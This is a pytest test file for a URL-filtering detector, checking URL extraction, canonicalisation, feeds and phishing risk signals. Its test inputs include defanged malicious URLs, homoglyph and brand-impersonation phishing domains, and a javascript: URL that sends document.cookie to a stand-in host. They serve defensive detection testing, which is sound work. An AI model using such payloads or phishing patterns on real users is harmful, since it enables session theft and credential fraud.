"""URL filtering (``url_cats``): extraction, canonicalisation, lists, feeds, risk signals, wire shape."""

from __future__ import annotations

import json
import os
import time
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings, strategies as st

from interlock.detectors.url_filtering import UrlFilteringDetector, UrlFilteringOptions
from interlock.detectors.url_filtering.canon import canonicalize, extract_candidates, parse_ipv4
from interlock.detectors.url_filtering.feeds import FEEDS
from interlock.detectors.url_filtering.model import load_model
from interlock.engine.base import ScanItem, ToolInfo
from interlock.engine.registry import validate_options
from interlock.errors import InvalidRequestError, ProfileError
from tests.sdk_models import sdk
from tests.unit.detectors.airs_wire import local_scanner, result_detail, scan_wire


def _scan(text: str, **options: object) -> list[dict[str, Any]]:
    det = UrlFilteringDetector(UrlFilteringOptions.model_validate(options))
    result = det.detect(ScanItem(text=text, field="prompt", data_type="prompt"))
    report = result.detail["urlf_report"]
    assert result.detected == any(e["action"] == "block" for e in report)
    return report  # type: ignore[no-any-return]


def _urls(text: str) -> list[str]:
    return [u.url for c in extract_candidates(text) if (u := canonicalize(c.raw)) is not None]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("see https://Example.COM:443/a/./b/../c?x=1#top now", "https://example.com/a/c?x=1"),
        ("hxxp://evil[.]example[.]com/payload", "http://evil.example.com/payload"),
        ("hxxps[:]//bad(.)example(.)org/x", "https://bad.example.org/x"),
        ("[click](http://example.net/a_(b))", "http://example.net/a_(b)"),
        ("![logo](https://cdn.example.org/logo.png)", "https://cdn.example.org/logo.png"),
        ("go to www.example.co.uk/path.", "http://www.example.co.uk/path"),
        ("visit example[.]com today", "http://example.com/"),
        ("http://3232235777/x", "http://192.168.1.1/x"),
        ("http://0xC0A80001/", "http://192.168.0.1/"),
        ("http://0300.0250.0.1/", "http://192.168.0.1/"),
        ("http://[::1]:80/", "http://[::1]/"),
        ("admin at 10.0.0.5:8080/login", "http://10.0.0.5:8080/login"),
        ("http://аpple.com/", "http://xn--pple-43d.com/"),
        ("short link bit.ly/3abc", "http://bit.ly/3abc"),
        # percent-encoding: host decoded (and lower-cased), unreserved escapes decoded, the rest upper-cased
        ("http://%77%77%77.Ex%61mple.COM/%7Euser/%61bc%2fx", "http://www.example.com/~user/abc%2Fx"),
        ("http://example.com/a/%2e%2e/b?q=%41%3d", "http://example.com/b?q=A%3D"),
        ("http://%E4%BD%A0.com/", "http://xn--6qq.com/"),
        ("http://%31%32%37.0.0.1/", "http://127.0.0.1/"),
        ("HTTPS://user:secret@Host.Example.COM:443/x", "https://host.example.com/x"),
    ],
)
def test_extracts_and_canonicalises(text: str, expected: str) -> None:
    assert expected in _urls(text)


@pytest.mark.parametrize(
    "text",
    [
        "run setup.py then read README.md and run.sh",
        "write to bob@example.com please",
        "call self.app and os.path.join(a, b) then obj.name",
        "upgrade from 1.2.3.4 to 2.0.1",
        "pi is 3.14159 and e.g. this",
    ],
)
def test_no_false_urls(text: str) -> None:
    assert _urls(text) == []


def test_credentials_are_never_reported() -> None:
    report = _scan("http://admin:hunter2secret@example.org/x")
    assert report[0]["url"] == "http://example.org/x"
    assert "hunter2secret" not in str(report)


def test_percent_encoded_at_in_host_is_userinfo() -> None:
    url = canonicalize("http://paypal.com%40evil.example/login")
    assert url is not None
    assert url.host == "evil.example"
    assert url.userinfo_host
    assert canonicalize("http://%2f.example/") is None


def test_parse_ipv4_forms() -> None:
    assert parse_ipv4("127.1") == ("127.0.0.1", True)
    assert parse_ipv4("8.8.8.8") == ("8.8.8.8", False)
    assert parse_ipv4("256.1.1.1") is None
    assert parse_ipv4("example") is None


@pytest.mark.parametrize(
    ("url", "signal"),
    [
        ("http://paypa1.com/login", "brand_homoglyph:paypal"),
        ("http://xn--pypal-4ve.com/", "brand_homoglyph:paypal"),
        ("http://paypal.com.account-verify.xyz/", "brand_in_subdomain:paypal"),
        ("http://microsoft-office365-login.com/", "brand_in_domain:microsoft"),
        ("http://paypal.com@203.0.113.9/", "userinfo_looks_like_host"),
        ("javascript:fetch('//x.example/'+document.cookie)", "javascript_scheme"),
        ("data:text/html;base64,PHNjcmlwdD4=", "data_scheme_active"),
        ("http://0x7f000001/admin", "ip_obfuscated"),
    ],
)
def test_high_risk_urls_block(url: str, signal: str) -> None:
    det = UrlFilteringDetector()
    result = det.detect(ScanItem(text=f"please open {url} now", field="prompt", data_type="prompt"))
    assert result.detected
    (finding,) = [f for f in result.findings if f.data["action"] == "block"]
    assert signal in list(finding.data["signals"])
    assert finding.data["risk_level"] == "high"


@pytest.mark.parametrize(
    "text",
    [
        "Sign in at https://accounts.google.com/signin and https://login.microsoftonline.com/common",
        "Pay via https://www.paypal.com/myaccount/summary or https://paypal.me/bob",
        "Docs: https://docs.github.com/en/actions and https://developer.apple.com/documentation",
        "News: http://telegraf.com.ua/mir/1887545-novosti.html and https://www.lrs.lt/",
        "Our site example.com and https://en.wikipedia.org/wiki/Phishing",
        "Search https://www.google.de/search?q=python and https://googleapps.com/",
    ],
)
def test_benign_urls_allowed(text: str) -> None:
    report = _scan(text)
    assert report, "URLs must still be reported"
    assert all(e["action"] == "allow" for e in report), report


def test_every_url_reported_once_in_order() -> None:
    report = _scan("https://a.example.com/ then https://b.example.com/ then https://A.example.com:443/")
    assert [e["url"] for e in report] == ["https://a.example.com/", "https://b.example.com/"]
    assert all(set(e) == {"url", "risk_level", "action", "categories"} for e in report)


def test_allow_and_block_lists() -> None:
    text = "http://paypa1.com/ and https://files.corp.example/x and https://corp.example/"
    report = _scan(text, allow_domains=("paypa1.com",), block_domains=("*.corp.example",))
    by_url = {e["url"]: e for e in report}
    assert by_url["http://paypa1.com/"]["action"] == "allow"
    assert by_url["https://files.corp.example/x"]["action"] == "block"
    assert "blocked-by-policy" in by_url["https://files.corp.example/x"]["categories"]
    assert by_url["https://corp.example/"]["action"] == "allow"  # wildcard: subdomains only


def test_feeds_text_and_csv(tmp_path: Path) -> None:
    (tmp_path / "malware.txt").write_text("# bad hosts\nbad-host.example\n*.c2.example\n", encoding="utf-8")
    (tmp_path / "intel.csv").write_text(
        "domain,category\nphish.example/login,phishing\nnews.example,news;computer-and-internet-info\n",
        encoding="utf-8",
    )
    feeds = [{"path": str(tmp_path / "malware.txt")}, {"path": str(tmp_path / "intel.csv")}]
    opts = validate_options("url_cats", {"feeds": feeds})
    det = UrlFilteringDetector(opts)  # type: ignore[arg-type]
    text = (
        "http://www.bad-host.example/a http://x.c2.example/beacon http://phish.example/login?u=1 "
        "http://phish.example/about https://news.example/today"
    )
    report = {
        e["url"]: e for e in det.detect(ScanItem(text=text, field="prompt", data_type="prompt")).detail["urlf_report"]
    }
    assert report["http://www.bad-host.example/a"]["categories"][0] == "malware"
    assert report["http://www.bad-host.example/a"]["action"] == "block"
    assert report["http://x.c2.example/beacon"]["action"] == "block"
    assert report["http://phish.example/login?u=1"]["categories"][0] == "phishing"
    assert report["http://phish.example/about"]["action"] == "allow"
    assert report["https://news.example/today"]["categories"][:2] == ["computer-and-internet-info", "news"]
    assert report["https://news.example/today"]["action"] == "allow"


def test_feed_reloads_when_file_changes(tmp_path: Path) -> None:
    feed = tmp_path / "phishing.txt"
    feed.write_text("one.example\n", encoding="utf-8")
    assert FEEDS.get(str(feed)).domains == {"one.example": {"phishing"}}
    feed.write_text("one.example\ntwo.example\n", encoding="utf-8")
    stamp = time.time() + 5
    os.utime(feed, (stamp, stamp))
    assert set(FEEDS.get(str(feed)).domains) == {"one.example", "two.example"}


def test_missing_feed_is_a_profile_error(tmp_path: Path) -> None:
    with pytest.raises(ProfileError, match="does not exist"):
        validate_options("url_cats", {"feeds": [{"path": str(tmp_path / "nope.txt")}]})
    with pytest.raises(ProfileError):
        validate_options("url_cats", {"block_risk": "sometimes"})


def test_url_limit_raises_or_truncates() -> None:
    text = " ".join(f"https://h{i}.example.com/" for i in range(101))
    det = UrlFilteringDetector()
    with pytest.raises(InvalidRequestError) as exc:
        det.detect(ScanItem(text=text, field="prompt", data_type="prompt"))
    assert exc.value.status_code == 413
    capped = UrlFilteringDetector(UrlFilteringOptions(on_too_many_urls="truncate"))
    result = capped.detect(ScanItem(text=text, field="prompt", data_type="prompt"))
    assert len(result.detail["urlf_report"]) == 100
    assert result.findings[-1].entity == "url_limit_exceeded"
    exactly = " ".join(f"https://h{i}.example.com/" for i in range(100))
    assert len(det.detect(ScanItem(text=exactly, field="prompt", data_type="prompt")).detail["urlf_report"]) == 100


def test_bundled_model_loads() -> None:
    model = load_model()
    assert 0.5 < model.threshold < 1.0


def test_local_scanner_wire_parses_with_sdk() -> None:
    scanner = local_scanner("url_cats")
    try:
        result, response, report = scan_wire(
            scanner, {"prompt": "open http://paypa1.com/login and https://example.com/docs"}
        )
    finally:
        scanner.close()
    parsed = sdk.ScanResponse.from_dict(response)
    assert parsed.action == "block"
    assert parsed.prompt_detected.url_cats is True
    (dr,) = sdk.ThreatScanReportObject.from_dict(report).detection_results
    assert dr.detection_service == "uf"
    entries = dr.result_detail.urlf_report
    assert [(e.url, e.action, e.risk_level) for e in entries] == [
        ("http://paypa1.com/login", "block", "high"),
        ("https://example.com/docs", "allow", "low"),
    ]
    assert entries[0].categories == ["phishing"]
    assert result_detail(report)["urlf_report"][1]["categories"] == ["low-risk"]


def test_too_many_urls_fails_closed_through_engine() -> None:
    text = " ".join(f"https://h{i}.example.com/" for i in range(120))
    scanner = local_scanner("url_cats")
    try:
        result, response, _ = scan_wire(scanner, {"prompt": text})
    finally:
        scanner.close()
    assert response["error"] is True
    assert response["errors"] == [{"content_type": "prompt", "feature": "url_cats", "status": "error"}]
    assert result.response.action == "block"


def test_oversized_hosts_are_not_urls() -> None:
    assert _urls("a." * 200 + "com") == []
    assert _urls("http://" + "a" * 300 + ".com/") == []
    assert canonicalize("http://example.com/" + "x" * 20_000) is not None


_URLISH = st.text(alphabet=st.sampled_from(list("ab.:/-[]()@%?#0x19 \nаé`'\"hxtps")), max_size=300)


@settings(max_examples=80, deadline=None)
@given(text=st.one_of(st.text(max_size=300), _URLISH))
def test_never_crashes_and_spans_are_in_bounds(text: str) -> None:
    det = UrlFilteringDetector(UrlFilteringOptions(on_too_many_urls="truncate"))
    result = det.detect(ScanItem(text=text, field="prompt", data_type="prompt"))
    for f in result.findings:
        assert 0 <= f.start <= f.end <= len(text)
    for entry in result.detail["urlf_report"]:
        assert entry["action"] in ("allow", "block") and entry["risk_level"] in ("low", "medium", "high")


def test_lone_surrogates_do_not_crash() -> None:
    report = _scan("\ud800 see http://paypa1.com/ \udfff")
    assert report[0]["url"] == "http://paypa1.com/"


def test_json_escaped_urls_in_tool_events() -> None:
    text = json.dumps({"url": "http://paypa1.com/login", "plain": "see https://example.com/a"}).replace("/", "\\/")
    det = UrlFilteringDetector()
    tool = ToolInfo("mcp", "tools/call", "browser", "open_url")
    result = det.detect(ScanItem(text=text, field="tool_input", data_type="tool_event", tool=tool))
    assert [e["url"] for e in result.detail["urlf_report"]] == ["http://paypa1.com/login", "https://example.com/a"]
    assert result.detected
    assert all(
        text[f.start : f.end].startswith("http:\\/\\/") or "https" in text[f.start : f.end] for f in result.findings
    )


@pytest.mark.parametrize(
    ("text", "raw"),
    [
        ("Please check this link for me: example.com/path", "example.com/path"),
        ("Please check this link for me: paypa1-secure-login.com", "paypa1-secure-login.com"),
        (
            "Please check this link for me: login.example-bank.verify-account.info.",
            "login.example-bank.verify-account.info",
        ),
        ("Please check this link for me: evil.zip", "evil.zip"),  # a file-extension TLD after a link cue
        ("Please check this link for me: 185.23.44.1", "185.23.44.1"),  # a bare IP after a link cue
        ("Link:example.com", "example.com"),
        ("visit 10.0.0.5 now", "10.0.0.5"),
    ],
)
def test_scheme_less_hosts_in_prose_are_extracted(text: str, raw: str) -> None:
    assert [c.raw for c in extract_candidates(text)] == [raw]


@pytest.mark.parametrize(
    "text",
    [
        "e.g. this one, i.e. that one",
        "version 1.2.3.4 released; see fig. 3.2 and sec. 4.1.2",
        "files: data.csv, model.bin, archive.tar.gz, photo.jpeg, report.pdf",
        "open setup.py in your editor, then README.md",
        "the site runs 2.4.1.0 now",
        "Done.Next step is to use np.array and df.groupby",
        "The U.S. and the U.K. agree; use node.js or vue.js",
    ],
)
def test_dotted_words_are_not_hosts(text: str) -> None:
    assert extract_candidates(text) == []
